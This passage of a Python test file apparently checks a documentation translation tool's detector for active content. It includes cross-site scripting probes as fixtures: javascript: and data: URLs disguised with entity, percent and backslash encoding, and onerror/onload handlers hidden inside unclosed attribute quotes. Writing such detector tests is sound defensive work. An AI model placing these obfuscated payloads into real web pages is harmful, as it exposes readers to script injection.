    "[!VIDEO java&Tab;script:alert(1)]", "[!VIDEO data&colon;text/html,x]",
    # helper-65: entities that make other escapes
    "[x](&amp#106;avascript:alert(1))", "[x](&AMP#106;avascript:alert(1))",
    "[x](&&num;106;avascript:alert(1))", '<a href="&amp&num;106;avascript:x">x</a>',
    "[x](javascript&percnt;3Aalert(1))", "[!VIDEO &percnt;6Aavascript:alert(1)]",
    # a backslash escape Markdown reads away: the link goes to 'javascript:…'
    "[x](javascript\\:alert(1))", "[x]: data\\:text/html,x",
])
def test_the_quick_look_sees_a_scheme_escaped_twice_or_after_other_words(text: str) -> None:
    """helper-64: unsafe_url reports each; the quick look, which decides whether the
    article's own markup is examined, said no."""
    assert list(safety.unsafe_url.fn("", text, Options()))
    assert safety.may_be_active(text)


@pytest.mark.parametrize("text", [
    'Texte <b title=" <img src=x onerror=alert(1)>',
    "Texte <b title=' <i class=\" <img src=x onerror=alert(1)>",
    '<!-- c --> <a title=" <svg onload=alert(1)>',
])
def test_a_handler_inside_a_quoted_value_left_open_is_found(text: str) -> None:
    """helper-115: a page that takes no tag for '<b title="' with no closing quote runs the
    tags after it; read as one tag to the end, their handlers were inside a value."""
    assert list(safety.event_handler.fn("", text, Options()))
    assert safety.may_be_active(text)


@pytest.mark.parametrize("text", [
    "Plain prose, with a [link](https://learn.microsoft.com/x) and **bold**.",
    '<a name="x"></a> | cell | <br/> <img src="media/a.png" alt="A">',
    "Metadata and data sets; the description: none.",
    "See %20 and &amp; and &nbsp; in URLs.",
])
def test_the_quick_look_lets_everyday_markup_through(text: str) -> None:
    assert not safety.may_be_active(text)


def test_an_added_element_is_named_once_not_once_for_its_end_tag() -> None:
    """``<script>x</script>`` adds one script: the message named it twice (its end tag read
    as a second), 'active element added by the translation: <script>, <script>'."""
    (message,) = safety.unsafe_element.fn("Prerequisites", "Voraussetzungen <script>x</script>",
                                          Options())
    assert message.startswith("active element added by the translation: <script> in ")
